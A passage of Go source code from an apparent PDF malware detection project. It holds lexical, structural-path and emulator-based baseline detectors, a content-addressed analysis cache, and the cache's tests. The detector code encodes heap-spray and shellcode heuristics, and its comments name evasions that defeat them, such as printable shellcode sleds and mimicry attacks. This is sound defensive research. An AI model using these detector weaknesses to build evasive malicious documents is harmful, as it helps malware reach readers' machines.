	v[10] = float64(strings.Count(src, "substring") + strings.Count(src, "substr") + strings.Count(src, "replace"))
	v[11] = float64(strings.Count(src, "[")) / 10
	return v
}

func stringLiteralStats(src string) (total, longest int) {
	inStr := false
	var quote byte
	cur := 0
	for i := 0; i < len(src); i++ {
		c := src[i]
		if inStr {
			if c == '\\' {
				i++
				cur += 2
				total += 2
				continue
			}
			if c == quote {
				inStr = false
				if cur > longest {
					longest = cur
				}
				cur = 0
				continue
			}
			cur++
			total++
			continue
		}
		if c == '"' || c == '\'' {
			inStr = true
			quote = c
		}
	}
	if cur > longest {
		longest = cur
	}
	return total, longest
}

// identifierEntropy measures name randomness (obfuscators emit high-entropy
// identifiers).
func identifierEntropy(src string) float64 {
	var counts [26]float64
	total := 0.0
	for i := 0; i < len(src); i++ {
		c := src[i] | 0x20
		if c >= 'a' && c <= 'z' {
			counts[c-'a']++
			total++
		}
	}
	if total == 0 {
		return 0
	}
	h := 0.0
	for _, c := range counts {
		if c == 0 {
			continue
		}
		p := c / total
		h -= p * math.Log2(p)
	}
	return h
}

// extractJS pulls all chain scripts out of a document ("" when none or
// extraction fails).
func extractJS(raw []byte) string {
	_, chains, _, err := instrument.Analyze(raw)
	if err != nil {
		return ""
	}
	var sb strings.Builder
	for _, c := range chains.Chains {
		sb.WriteString(c.Source)
		sb.WriteByte('\n')
	}
	return sb.String()
}

// Train implements Detector: one-class on malicious lexical profiles.
func (d *PJScan) Train(benign, malicious [][]byte) error {
	var vectors [][]float64
	for _, raw := range malicious {
		src := extractJS(raw)
		if src == "" {
			continue
		}
		vectors = append(vectors, lexicalVector(src))
	}
	d.oc = ml.TrainOneClass(vectors, 0.90)
	return nil
}

// Classify implements Detector.
func (d *PJScan) Classify(raw []byte) (bool, error) {
	if d.oc == nil {
		return false, ErrUntrained
	}
	src := extractJS(raw)
	if src == "" {
		return false, nil // no JS extracted -> benign by construction
	}
	// Inside the malicious one-class boundary -> malicious.
	return !d.oc.Anomalous(lexicalVector(src)), nil
}
