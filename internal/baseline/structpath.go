package baseline

import (
	"sort"

	"pdfshield/internal/ml"
	"pdfshield/internal/pdf"
)

// StructPath reimplements Šrndić & Laskov's structural-path method [5]: the
// document is modelled as the set of name paths from the trailer to each
// object; a decision tree over a learned path vocabulary classifies. The
// strongest static baseline (0.05% FP / 99% TP in Table IX) — and the main
// victim of the mimicry attack in [8].
type StructPath struct {
	vocab map[string]int
	tree  *ml.Tree
}

var _ Detector = (*StructPath)(nil)

// NewStructPath returns an untrained StructPath.
func NewStructPath() *StructPath { return &StructPath{} }

// Name implements Detector.
func (*StructPath) Name() string { return "structpath" }

const (
	maxPathDepth = 5
	maxVocab     = 300
)

// docPaths collects the structural path set of a document.
func docPaths(raw []byte) map[string]bool {
	paths := make(map[string]bool)
	doc, err := pdf.Parse(raw, pdf.ParseOptions{})
	if err != nil {
		paths["<unparseable>"] = true
		return paths
	}
	if doc.Trailer == nil {
		return paths
	}
	seen := make(map[int]bool)
	var walk func(obj pdf.Object, path string, depth int)
	walk = func(obj pdf.Object, path string, depth int) {
		if depth > maxPathDepth {
			return
		}
		switch v := obj.(type) {
		case pdf.Ref:
			if seen[v.Num] && depth > 2 {
				return
			}
			seen[v.Num] = true
			if target, ok := doc.Get(v.Num); ok {
				walk(target.Object, path, depth)
			}
		case pdf.Dict:
			for _, k := range v.SortedKeys() {
				p := path + "/" + string(k)
				paths[p] = true
				walk(v[k], p, depth+1)
			}
		case *pdf.Stream:
			paths[path+"/<stream>"] = true
			walk(v.Dict, path, depth)
		case pdf.Array:
			for _, el := range v {
				walk(el, path, depth+1)
			}
		}
	}
	walk(doc.Trailer, "", 0)
	return paths
}

func (d *StructPath) vector(raw []byte) []float64 {
	v := make([]float64, len(d.vocab))
	for p := range docPaths(raw) {
		if idx, ok := d.vocab[p]; ok {
			v[idx] = 1
		}
	}
	return v
}

// Train implements Detector.
func (d *StructPath) Train(benign, malicious [][]byte) error {
	// Build the vocabulary from paths seen in training, most frequent
	// first.
	freq := make(map[string]int)
	collect := func(raws [][]byte) {
		for _, raw := range raws {
			for p := range docPaths(raw) {
				freq[p]++
			}
		}
	}
	collect(benign)
	collect(malicious)
	type pf struct {
		path string
		n    int
	}
	all := make([]pf, 0, len(freq))
	for p, n := range freq {
		all = append(all, pf{p, n})
	}
	sort.Slice(all, func(i, j int) bool {
		if all[i].n != all[j].n {
			return all[i].n > all[j].n
		}
		return all[i].path < all[j].path
	})
	if len(all) > maxVocab {
		all = all[:maxVocab]
	}
	d.vocab = make(map[string]int, len(all))
	for i, e := range all {
		d.vocab[e.path] = i
	}

	ds := &ml.Dataset{Dim: len(d.vocab)}
	for _, raw := range benign {
		ds.Add(d.vector(raw), -1)
	}
	for _, raw := range malicious {
		ds.Add(d.vector(raw), 1)
	}
	d.tree = ml.TrainTree(ds, ml.TreeConfig{MaxDepth: 16, MinLeafSize: 2})
	return nil
}

// Classify implements Detector.
func (d *StructPath) Classify(raw []byte) (bool, error) {
	if d.tree == nil {
		return false, ErrUntrained
	}
	return d.tree.Predict(d.vector(raw)) > 0, nil
}
