package baseline

import (
	"strings"

	"pdfshield/internal/js"
)

// Wepawet approximates the JSAND-based service [18][14]: extracted
// Javascript runs in a lightweight emulator with *no* Acrobat API surface,
// and anomaly features flag documents that both allocate like a heap spray
// and materialize shellcode-like strings (long runs of non-printable code
// units). Two documented weaknesses are inherited: context-dependent
// scripts fail before reaching their payload, and printable sleds (English
// Shellcode [26]) evade the shellcode heuristic — the paper measured the
// service at 68% TP.
type Wepawet struct {
	trained bool
}

var _ Detector = (*Wepawet)(nil)

// NewWepawet returns the JSAND-style detector.
func NewWepawet() *Wepawet { return &Wepawet{} }

// Name implements Detector.
func (*Wepawet) Name() string { return "wepawet" }

// Train implements Detector (anomaly rules are fixed).
func (d *Wepawet) Train(benign, malicious [][]byte) error {
	d.trained = true
	return nil
}

const (
	wepawetSprayMB      = 64
	wepawetShellcodeRun = 16
	wepawetEscapeCount  = 8
)

// Classify implements Detector.
func (d *Wepawet) Classify(raw []byte) (bool, error) {
	if !d.trained {
		return false, ErrUntrained
	}
	src := extractJS(raw)
	if src == "" {
		return false, nil
	}
	// Lexical pre-filter: dense %uXXXX escapes are shellcode on their own.
	if strings.Count(src, "%u") >= wepawetEscapeCount {
		return true, nil
	}

	it := js.New()
	it.StepLimit = 20_000_000
	it.MaxHeap = 512 << 20
	shellcodeSeen := false
	it.LargeStringUnits = 4096
	it.OnLargeString = func(s string) {
		if nonPrintableRun(s) >= wepawetShellcodeRun {
			shellcodeSeen = true
		}
	}
	// No Acrobat API at all: scripts die at their first app/util/this
	// touch; whatever ran before that is what gets judged.
	_, _ = it.Run(src)

	return shellcodeSeen && it.HeapBytes > wepawetSprayMB<<20, nil
}

// nonPrintableRun returns the longest run of non-printable BMP code units.
func nonPrintableRun(s string) int {
	longest, cur := 0, 0
	for _, r := range s {
		if r < 0x20 || (r >= 0x7f && r < 0xa0) || (r >= 0x0c00 && r <= 0x0dff) {
			cur++
			if cur > longest {
				longest = cur
			}
		} else {
			cur = 0
		}
	}
	return longest
}
