// Package cache is the content-addressed front-end cache: it remembers
// the outcome of the static front-end (parse → decompress → chain
// reconstruction → instrumentation) per SHA-256 of the submitted bytes,
// so resubmitted and duplicated documents skip the per-document hot path.
//
// Real PDF malware corpora are dominated by near- and exact-duplicate
// samples (polymorphic campaigns reuse carriers), which makes the
// front-end the scaling bottleneck once the batch engine widens. The
// cache stores the completed instrument.Result — features, chains,
// instrumented output bytes, embedded results — plus terminal front-end
// errors such as instrument.ErrNoJavaScript. It deliberately does NOT
// store verdicts: the runtime features F8–F13 depend on what the
// document does in the reader process at open time, so runtime detection
// runs on every open and only the static artifact is reused.
//
// Concurrency: keys are sharded across independently-locked shards, and
// a singleflight layer guarantees that N concurrent submissions of
// identical bytes perform exactly one front-end pass — the followers
// block on the leader's flight and share its result.
package cache

import (
	"container/list"
	"context"
	"errors"
	"sync"
	"time"

	"pdfshield/internal/instrument"
	"pdfshield/internal/obs"
)

// Defaults applied by New when the corresponding Config field is zero.
const (
	DefaultMaxEntries = 4096
	DefaultMaxBytes   = 256 << 20 // 256 MB of cached instrumented output
	DefaultShards     = 16
)

// entryOverhead approximates the fixed per-entry bookkeeping cost (maps,
// list element, Result struct) charged on top of the payload bytes.
const entryOverhead = 512

// ErrFlightAborted is returned to singleflight followers whose leader's
// front-end pass panicked before producing a result. The panic itself
// propagates on the leader's goroutine (pipeline containment fails the
// leader's document closed); followers fail closed with this error.
var ErrFlightAborted = errors.New("cache: front-end flight aborted")

// Config tunes a Cache.
type Config struct {
	// MaxEntries bounds the total number of cached documents (0 =
	// DefaultMaxEntries, negative = unlimited).
	MaxEntries int
	// MaxBytes bounds the total payload bytes retained (0 =
	// DefaultMaxBytes, negative = unlimited).
	MaxBytes int64
	// TTL expires entries this long after they are stored (0 = never).
	TTL time.Duration
	// Shards is the number of independently-locked shards (0 =
	// DefaultShards).
	Shards int
	// Now overrides the clock (tests); nil = time.Now.
	Now func() time.Time
}

// Stats is a point-in-time snapshot of the cache counters.
type Stats struct {
	// Hits counts lookups served from a completed entry.
	Hits uint64 `json:"hits"`
	// Misses counts lookups that ran the front-end (singleflight leaders).
	Misses uint64 `json:"misses"`
	// Shared counts singleflight followers served by a leader's in-flight
	// front-end pass (work avoided without a stored entry yet).
	Shared uint64 `json:"shared"`
	// Evictions counts entries dropped by the LRU capacity bounds.
	Evictions uint64 `json:"evictions"`
	// Expired counts entries dropped because their TTL lapsed.
	Expired uint64 `json:"expired"`
	// Entries and Bytes describe the current residency.
	Entries int   `json:"entries"`
	Bytes   int64 `json:"bytes"`
}

// HitRate is the fraction of lookups that avoided a front-end pass.
func (s Stats) HitRate() float64 {
	total := s.Hits + s.Shared + s.Misses
	if total == 0 {
		return 0
	}
	return float64(s.Hits+s.Shared) / float64(total)
}

// entry is one cached front-end outcome. Exactly the pair the front-end
// hands back: ErrNoJavaScript arrives with a non-nil Result, parse
// failures with a nil one.
type entry struct {
	key     string
	res     *instrument.Result
	err     error
	size    int64
	expires time.Time // zero = never
	elem    *list.Element
	// expElem is the entry's slot in the shard's expiry FIFO (nil when the
	// cache has no TTL).
	expElem *list.Element
}

// flight is an in-progress front-end pass other submitters can join.
type flight struct {
	done chan struct{}
	res  *instrument.Result
	err  error
}

type shard struct {
	mu      sync.Mutex
	entries map[string]*entry
	lru     *list.List // front = most recently used
	// expiry orders entries by store time (front = oldest). The TTL is a
	// per-cache constant, so store order IS expiry order, and sweeping is
	// an exact pop-from-front loop instead of a full scan.
	expiry  *list.List
	flights map[string]*flight
	bytes   int64

	hits, misses, shared, evictions, expired uint64
}

// Cache is a sharded, content-addressed front-end cache.
type Cache struct {
	shards     []*shard
	maxEntries int   // per shard (<=0 = unlimited)
	maxBytes   int64 // per shard (<=0 = unlimited)
	ttl        time.Duration
	now        func() time.Time
}

// New builds a cache from cfg (zero values take the package defaults).
func New(cfg Config) *Cache {
	nshards := cfg.Shards
	if nshards <= 0 {
		nshards = DefaultShards
	}
	maxEntries := cfg.MaxEntries
	if maxEntries == 0 {
		maxEntries = DefaultMaxEntries
	}
	maxBytes := cfg.MaxBytes
	if maxBytes == 0 {
		maxBytes = DefaultMaxBytes
	}
	now := cfg.Now
	if now == nil {
		now = time.Now
	}
	c := &Cache{
		shards: make([]*shard, nshards),
		ttl:    cfg.TTL,
		now:    now,
	}
	// Capacity bounds are split evenly across shards; each shard evicts
	// independently, so the totals hold without a global lock.
	if maxEntries > 0 {
		c.maxEntries = (maxEntries + nshards - 1) / nshards
	}
	if maxBytes > 0 {
		c.maxBytes = (maxBytes + int64(nshards) - 1) / int64(nshards)
	}
	for i := range c.shards {
		c.shards[i] = &shard{
			entries: make(map[string]*entry),
			lru:     list.New(),
			expiry:  list.New(),
			flights: make(map[string]*flight),
		}
	}
	return c
}

// shardFor picks the shard for a key. Keys are hex SHA-256 digests, so
// the leading bytes are already uniformly distributed — an FNV-1a over
// the first 8 runes spreads them without rehashing the whole digest.
func (c *Cache) shardFor(key string) *shard {
	h := uint32(2166136261)
	n := len(key)
	if n > 8 {
		n = 8
	}
	for i := 0; i < n; i++ {
		h ^= uint32(key[i])
		h *= 16777619
	}
	return c.shards[h%uint32(len(c.shards))]
}

// Get returns the cached outcome for key, if present and fresh. The
// third return reports whether the lookup hit. Get never joins a flight;
// use Do for the full read-through path.
func (c *Cache) Get(key string) (*instrument.Result, error, bool) {
	sh := c.shardFor(key)
	sh.mu.Lock()
	defer sh.mu.Unlock()
	e, ok := sh.lookupLocked(key, c.now())
	if !ok {
		sh.misses++
		return nil, nil, false
	}
	sh.hits++
	return e.res, e.err, true
}

// Outcome classifies how a DoContext call was satisfied.
type Outcome int

const (
	// OutcomeMiss: the caller was the singleflight leader and ran fn.
	OutcomeMiss Outcome = iota
	// OutcomeHit: served from a completed, fresh entry.
	OutcomeHit
	// OutcomeShared: joined (or waited on) another caller's in-flight
	// front-end pass.
	OutcomeShared
)

// Avoided reports whether the call skipped running fn.
func (o Outcome) String() string {
	switch o {
	case OutcomeHit:
		return "hit"
	case OutcomeShared:
		return "shared"
	default:
		return "miss"
	}
}

// Do is the context-free read-through entry point; see DoContext. The
// third return reports whether the caller avoided running fn (completed
// entry or shared flight).
func (c *Cache) Do(key string, fn func() (*instrument.Result, error)) (*instrument.Result, error, bool) {
	res, err, oc := c.DoContext(context.Background(), key, fn)
	return res, err, oc != OutcomeMiss
}

// DoContext is the read-through entry point: a fresh entry is returned
// at once; otherwise the first caller for a key becomes the singleflight
// leader, runs fn exactly once and stores the outcome, while concurrent
// callers for the same key block on the leader and share its result.
//
// Cancellation: a follower whose ctx ends stops waiting on the flight
// and returns ctx.Err() (the leader's pass is unaffected). A leader
// whose fn returns a context error publishes it to the current followers
// but the outcome is NOT stored, so the next submission of the same
// bytes re-runs the front-end instead of replaying a cancellation as if
// it were a terminal parse failure.
func (c *Cache) DoContext(ctx context.Context, key string, fn func() (*instrument.Result, error)) (*instrument.Result, error, Outcome) {
	sh := c.shardFor(key)
	sh.mu.Lock()
	if e, ok := sh.lookupLocked(key, c.now()); ok {
		sh.hits++
		sh.mu.Unlock()
		return e.res, e.err, OutcomeHit
	}
	if f, ok := sh.flights[key]; ok {
		sh.shared++
		sh.mu.Unlock()
		select {
		case <-f.done:
			return f.res, f.err, OutcomeShared
		case <-ctx.Done():
			return nil, ctx.Err(), OutcomeShared
		}
	}
	f := &flight{done: make(chan struct{}), err: ErrFlightAborted}
	sh.flights[key] = f
	sh.misses++
	sh.mu.Unlock()

	// If fn panics, the deferred cleanup publishes ErrFlightAborted to the
	// followers (so nobody blocks forever) and lets the panic continue to
	// unwind the leader — pipeline containment fails that document closed.
	completed := false
	defer func() {
		sh.mu.Lock()
		delete(sh.flights, key)
		if completed && !isContextError(f.err) {
			sh.storeLocked(c, key, f.res, f.err)
		}
		sh.mu.Unlock()
		close(f.done)
	}()
	f.res, f.err = fn()
	completed = true
	return f.res, f.err, OutcomeMiss
}

// isContextError reports whether err is a cancellation/deadline outcome,
// which must never be cached as a terminal front-end result.
func isContextError(err error) bool {
	return errors.Is(err, context.Canceled) || errors.Is(err, context.DeadlineExceeded)
}

// Invalidate drops the entry for key, if any. De-instrumentation calls
// this: once a benign document's registry record is removed, its cached
// Result holds a dead protection key and must not be replayed.
func (c *Cache) Invalidate(key string) {
	sh := c.shardFor(key)
	sh.mu.Lock()
	defer sh.mu.Unlock()
	if e, ok := sh.entries[key]; ok {
		sh.removeLocked(e)
	}
}

// RegisterMetrics folds the cache's counters into an obs registry as
// callback-backed series: scrapes and snapshots read the live shard
// counters, so there is exactly one source of truth for cache stats.
// Re-registering (e.g. a fresh System sharing a long-lived registry)
// replaces the previous cache's series.
func (c *Cache) RegisterMetrics(reg *obs.Registry) {
	if reg == nil {
		return
	}
	stat := func(pick func(Stats) float64) func() float64 {
		return func() float64 { return pick(c.Stats()) }
	}
	reg.CounterFunc(obs.MetricCacheHits, stat(func(s Stats) float64 { return float64(s.Hits) }))
	reg.CounterFunc(obs.MetricCacheMisses, stat(func(s Stats) float64 { return float64(s.Misses) }))
	reg.CounterFunc(obs.MetricCacheShared, stat(func(s Stats) float64 { return float64(s.Shared) }))
	reg.CounterFunc(obs.MetricCacheEvictions, stat(func(s Stats) float64 { return float64(s.Evictions) }))
	reg.CounterFunc(obs.MetricCacheExpired, stat(func(s Stats) float64 { return float64(s.Expired) }))
	reg.GaugeFunc(obs.MetricCacheEntries, stat(func(s Stats) float64 { return float64(s.Entries) }))
	reg.GaugeFunc(obs.MetricCacheBytes, stat(func(s Stats) float64 { return float64(s.Bytes) }))
}

// Stats sums a snapshot over all shards. Each shard is swept first, so
// Entries/Bytes report live residency even when no lookups have touched
// a shard since its entries' TTL lapsed (metrics scrapes on an idle
// daemon see the true footprint, and the sweep itself frees it).
func (c *Cache) Stats() Stats {
	var s Stats
	now := c.now()
	for _, sh := range c.shards {
		sh.mu.Lock()
		sh.sweepLocked(now)
		s.Hits += sh.hits
		s.Misses += sh.misses
		s.Shared += sh.shared
		s.Evictions += sh.evictions
		s.Expired += sh.expired
		s.Entries += len(sh.entries)
		s.Bytes += sh.bytes
		sh.mu.Unlock()
	}
	return s
}

// Len returns the number of resident entries.
func (c *Cache) Len() int {
	n := 0
	for _, sh := range c.shards {
		sh.mu.Lock()
		n += len(sh.entries)
		sh.mu.Unlock()
	}
	return n
}

// lookupLocked finds a fresh entry and promotes hits to the LRU front.
// The shard-wide sweep runs first, so every lookup — whatever key it asks
// for — releases the bytes and slots of entries whose TTL has lapsed;
// before the sweep existed an expired entry kept charging MaxBytes /
// MaxEntries until its own key happened to be looked up again, pinning
// dead bytes in a long-idle daemon and over-reporting Stats.
func (sh *shard) lookupLocked(key string, now time.Time) (*entry, bool) {
	sh.sweepLocked(now)
	e, ok := sh.entries[key]
	if !ok {
		return nil, false
	}
	return e, sh.freshLocked(e, now)
}

// freshLocked expires e if its TTL lapsed, else front-promotes it.
func (sh *shard) freshLocked(e *entry, now time.Time) bool {
	if !e.expires.IsZero() && now.After(e.expires) {
		sh.removeLocked(e)
		sh.expired++
		return false
	}
	sh.lru.MoveToFront(e.elem)
	return true
}

// sweepLocked drops every entry whose TTL has lapsed. Entries sit in the
// expiry FIFO in store order and carry a constant TTL, so the loop stops
// at the first fresh entry: the cost is O(expired), not O(entries).
func (sh *shard) sweepLocked(now time.Time) {
	for {
		front := sh.expiry.Front()
		if front == nil {
			return
		}
		e := front.Value.(*entry)
		if e.expires.IsZero() || !now.After(e.expires) {
			return
		}
		sh.removeLocked(e)
		sh.expired++
	}
}

// storeLocked inserts an outcome and evicts from the LRU tail until the
// shard is back under both capacity bounds.
func (sh *shard) storeLocked(c *Cache, key string, res *instrument.Result, err error) {
	// Release lapsed entries before charging the new one, so eviction
	// pressure falls on dead bytes first, not on live LRU victims.
	sh.sweepLocked(c.now())
	if old, ok := sh.entries[key]; ok {
		// A racing Invalidate+Do can re-store; replace, don't double-count.
		sh.removeLocked(old)
	}
	e := &entry{key: key, res: res, err: err, size: resultSize(res)}
	if c.maxBytes > 0 && e.size > c.maxBytes {
		// Larger than the whole shard budget: caching it would evict
		// everything for one resident; skip it.
		return
	}
	if c.ttl > 0 {
		e.expires = c.now().Add(c.ttl)
		e.expElem = sh.expiry.PushBack(e)
	}
	e.elem = sh.lru.PushFront(e)
	sh.entries[key] = e
	sh.bytes += e.size
	for (c.maxEntries > 0 && len(sh.entries) > c.maxEntries) ||
		(c.maxBytes > 0 && sh.bytes > c.maxBytes) {
		tail := sh.lru.Back()
		if tail == nil {
			break
		}
		victim := tail.Value.(*entry)
		if victim == e {
			break // never evict the entry just stored
		}
		sh.removeLocked(victim)
		sh.evictions++
	}
}

func (sh *shard) removeLocked(e *entry) {
	delete(sh.entries, e.key)
	sh.lru.Remove(e.elem)
	if e.expElem != nil {
		sh.expiry.Remove(e.expElem)
	}
	sh.bytes -= e.size
}

// resultSize approximates the retained payload of one cached outcome:
// the instrumented output, the de-instrumentation spec's saved originals,
// and the same for every embedded result, plus fixed overhead.
func resultSize(res *instrument.Result) int64 {
	size := int64(entryOverhead)
	if res == nil {
		return size
	}
	size += int64(len(res.Output))
	for _, se := range res.Spec.Entries {
		size += int64(len(se.Original))
	}
	for _, emb := range res.Embedded {
		size += resultSize(emb)
	}
	return size
}
