package cache

import (
	"errors"
	"fmt"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"pdfshield/internal/instrument"
)

// resultWithOutput builds a minimal Result whose cached size is
// entryOverhead + n payload bytes.
func resultWithOutput(n int) *instrument.Result {
	return &instrument.Result{Output: make([]byte, n)}
}

func TestDoCachesResultAndTerminalError(t *testing.T) {
	c := New(Config{})
	calls := 0
	res := resultWithOutput(8)
	got, err, avoided := c.Do("k1", func() (*instrument.Result, error) {
		calls++
		return res, nil
	})
	if avoided || err != nil || got != res {
		t.Fatalf("first Do = (%p, %v, %v), want leader returning res", got, err, avoided)
	}
	got, err, avoided = c.Do("k1", func() (*instrument.Result, error) {
		calls++
		return nil, nil
	})
	if !avoided || err != nil || got != res {
		t.Fatalf("second Do = (%p, %v, %v), want cached res", got, err, avoided)
	}
	if calls != 1 {
		t.Fatalf("fn ran %d times, want 1", calls)
	}

	// Terminal errors cache the same way (ErrNoJavaScript arrives with a
	// non-nil Result carrying the features).
	got, err, _ = c.Do("k2", func() (*instrument.Result, error) {
		return resultWithOutput(0), instrument.ErrNoJavaScript
	})
	if !errors.Is(err, instrument.ErrNoJavaScript) || got == nil {
		t.Fatalf("error store = (%v, %v)", got, err)
	}
	_, err, avoided = c.Do("k2", func() (*instrument.Result, error) {
		t.Fatal("fn must not run for a cached error")
		return nil, nil
	})
	if !avoided || !errors.Is(err, instrument.ErrNoJavaScript) {
		t.Fatalf("cached error = (%v, %v), want hit with ErrNoJavaScript", avoided, err)
	}

	s := c.Stats()
	if s.Hits != 2 || s.Misses != 2 || s.Entries != 2 {
		t.Fatalf("stats = %+v, want 2 hits / 2 misses / 2 entries", s)
	}
	if hr := s.HitRate(); hr != 0.5 {
		t.Fatalf("hit rate = %v, want 0.5", hr)
	}
}

func TestLRUEvictionOrder(t *testing.T) {
	// One shard so the entry cap applies to a single LRU list.
	c := New(Config{MaxEntries: 3, Shards: 1})
	for i := 1; i <= 3; i++ {
		k := fmt.Sprintf("k%d", i)
		c.Do(k, func() (*instrument.Result, error) { return resultWithOutput(1), nil })
	}
	// Touch k1: k2 becomes least recently used.
	if _, _, ok := c.Get("k1"); !ok {
		t.Fatal("k1 should be resident")
	}
	c.Do("k4", func() (*instrument.Result, error) { return resultWithOutput(1), nil })

	if _, _, ok := c.Get("k2"); ok {
		t.Fatal("k2 should have been evicted as the LRU victim")
	}
	for _, k := range []string{"k1", "k3", "k4"} {
		if _, _, ok := c.Get(k); !ok {
			t.Fatalf("%s should have survived eviction", k)
		}
	}
	if s := c.Stats(); s.Evictions != 1 || s.Entries != 3 {
		t.Fatalf("stats = %+v, want 1 eviction / 3 entries", s)
	}
}

func TestBytesCapEvicts(t *testing.T) {
	const payload = 1024
	perEntry := int64(payload + entryOverhead)
	c := New(Config{MaxBytes: 2 * perEntry, MaxEntries: -1, Shards: 1})
	for i := 1; i <= 3; i++ {
		k := fmt.Sprintf("k%d", i)
		c.Do(k, func() (*instrument.Result, error) { return resultWithOutput(payload), nil })
	}
	if _, _, ok := c.Get("k1"); ok {
		t.Fatal("k1 should have been evicted by the bytes cap")
	}
	s := c.Stats()
	if s.Entries != 2 || s.Bytes != 2*perEntry || s.Evictions != 1 {
		t.Fatalf("stats = %+v, want 2 entries / %d bytes / 1 eviction", s, 2*perEntry)
	}
}

func TestOversizedEntryNotStored(t *testing.T) {
	c := New(Config{MaxBytes: entryOverhead + 10, MaxEntries: -1, Shards: 1})
	c.Do("small", func() (*instrument.Result, error) { return resultWithOutput(1), nil })
	c.Do("big", func() (*instrument.Result, error) { return resultWithOutput(1 << 20), nil })
	if _, _, ok := c.Get("small"); !ok {
		t.Fatal("small entry should not be displaced by an uncacheable one")
	}
	if _, _, ok := c.Get("big"); ok {
		t.Fatal("entry larger than the shard budget must not be stored")
	}
}

func TestResultSizeCountsSpecAndEmbedded(t *testing.T) {
	res := resultWithOutput(100)
	res.Spec.Entries = []instrument.SpecEntry{{Original: string(make([]byte, 40))}}
	res.Embedded = []*instrument.Result{resultWithOutput(60)}
	want := int64(entryOverhead+100+40) + int64(entryOverhead+60)
	if got := resultSize(res); got != want {
		t.Fatalf("resultSize = %d, want %d", got, want)
	}
}

func TestTTLExpiry(t *testing.T) {
	now := time.Unix(1000, 0)
	c := New(Config{TTL: time.Minute, Now: func() time.Time { return now }})
	c.Do("k", func() (*instrument.Result, error) { return resultWithOutput(1), nil })

	now = now.Add(59 * time.Second)
	if _, _, ok := c.Get("k"); !ok {
		t.Fatal("entry expired before its TTL")
	}
	now = now.Add(2 * time.Second) // 61s after store
	if _, _, ok := c.Get("k"); ok {
		t.Fatal("entry should have expired")
	}
	s := c.Stats()
	if s.Expired != 1 || s.Entries != 0 {
		t.Fatalf("stats = %+v, want 1 expired / 0 entries", s)
	}
	// The next Do re-runs the front-end.
	_, _, avoided := c.Do("k", func() (*instrument.Result, error) { return resultWithOutput(1), nil })
	if avoided {
		t.Fatal("Do after expiry must run fn again")
	}
}

func TestInvalidate(t *testing.T) {
	c := New(Config{})
	c.Do("k", func() (*instrument.Result, error) { return resultWithOutput(1), nil })
	c.Invalidate("k")
	if _, _, ok := c.Get("k"); ok {
		t.Fatal("invalidated entry still resident")
	}
	_, _, avoided := c.Do("k", func() (*instrument.Result, error) { return resultWithOutput(1), nil })
	if avoided {
		t.Fatal("Do after Invalidate must run fn again")
	}
}

// TestSingleflight proves the acceptance property: 8 concurrent
// submissions of the same key perform exactly one front-end pass.
func TestSingleflight(t *testing.T) {
	const followers = 7
	c := New(Config{})
	var calls atomic.Int32
	entered := make(chan struct{})
	release := make(chan struct{})
	res := resultWithOutput(4)

	var wg sync.WaitGroup
	results := make([]*instrument.Result, followers+1)
	avoideds := make([]bool, followers+1)
	wg.Add(1)
	go func() {
		defer wg.Done()
		results[0], _, avoideds[0] = c.Do("k", func() (*instrument.Result, error) {
			calls.Add(1)
			close(entered)
			<-release
			return res, nil
		})
	}()
	<-entered
	for i := 1; i <= followers; i++ {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			results[i], _, avoideds[i] = c.Do("k", func() (*instrument.Result, error) {
				calls.Add(1)
				return nil, errors.New("follower must not run the front-end")
			})
		}(i)
	}
	// Wait for every follower to have joined the leader's flight before
	// letting it finish, so all 8 calls are genuinely concurrent.
	for deadline := time.Now().Add(5 * time.Second); ; {
		if c.Stats().Shared == followers {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("followers joined = %d, want %d", c.Stats().Shared, followers)
		}
		time.Sleep(time.Millisecond)
	}
	close(release)
	wg.Wait()

	if n := calls.Load(); n != 1 {
		t.Fatalf("front-end ran %d times under 8-way concurrency, want exactly 1", n)
	}
	leaders := 0
	for i, r := range results {
		if r != res {
			t.Fatalf("caller %d got %p, want the shared result %p", i, r, res)
		}
		if !avoideds[i] {
			leaders++
		}
	}
	if leaders != 1 {
		t.Fatalf("%d callers ran the front-end path, want 1 leader", leaders)
	}
	s := c.Stats()
	if s.Misses != 1 || s.Shared != followers {
		t.Fatalf("stats = %+v, want 1 miss / %d shared", s, followers)
	}
}

// TestLeaderPanicReleasesFollowers: a panicking leader must not strand
// followers or poison the key.
func TestLeaderPanicReleasesFollowers(t *testing.T) {
	c := New(Config{})
	entered := make(chan struct{})
	release := make(chan struct{})

	var follower sync.WaitGroup
	follower.Add(1)
	var fErr error
	go func() {
		defer follower.Done()
		<-entered
		_, fErr, _ = c.Do("k", func() (*instrument.Result, error) {
			t.Error("follower ran fn while leader's flight was open")
			return nil, nil
		})
	}()

	var leader sync.WaitGroup
	leader.Add(1)
	panicked := false
	go func() {
		defer leader.Done()
		defer func() {
			if recover() != nil {
				panicked = true
			}
		}()
		c.Do("k", func() (*instrument.Result, error) {
			close(entered)
			<-release
			panic("front-end blew up")
		})
	}()

	<-entered
	for deadline := time.Now().Add(5 * time.Second); c.Stats().Shared == 0; {
		if time.Now().After(deadline) {
			t.Fatal("follower never joined the flight")
		}
		time.Sleep(time.Millisecond)
	}
	close(release)
	leader.Wait()
	follower.Wait()

	if !panicked {
		t.Fatal("leader's panic must propagate for pipeline containment")
	}
	if !errors.Is(fErr, ErrFlightAborted) {
		t.Fatalf("follower error = %v, want ErrFlightAborted", fErr)
	}
	// The aborted flight must not be stored; the key works again.
	_, err, avoided := c.Do("k", func() (*instrument.Result, error) { return resultWithOutput(1), nil })
	if avoided || err != nil {
		t.Fatalf("Do after aborted flight = (%v, %v), want a fresh run", avoided, err)
	}
}

func TestConcurrentMixedKeys(t *testing.T) {
	c := New(Config{MaxEntries: 8, Shards: 4})
	var wg sync.WaitGroup
	for w := 0; w < 8; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			for i := 0; i < 200; i++ {
				k := fmt.Sprintf("key-%d", i%16)
				res, _, _ := c.Do(k, func() (*instrument.Result, error) {
					return resultWithOutput(i % 7), nil
				})
				if res == nil {
					t.Errorf("nil result for %s", k)
					return
				}
				if i%31 == 0 {
					c.Invalidate(k)
				}
			}
		}(w)
	}
	wg.Wait()
	if n := c.Len(); n > 8+4 { // per-shard split rounds up: ceil(8/4)=2 per shard
		t.Fatalf("residency %d exceeds configured bound", n)
	}
}

// TestExpiredEntriesSweptWithoutLookup is the lazy-TTL regression test:
// expired entries used to stay resident (charging MaxBytes/MaxEntries)
// until their own key happened to be looked up again. The sweep must
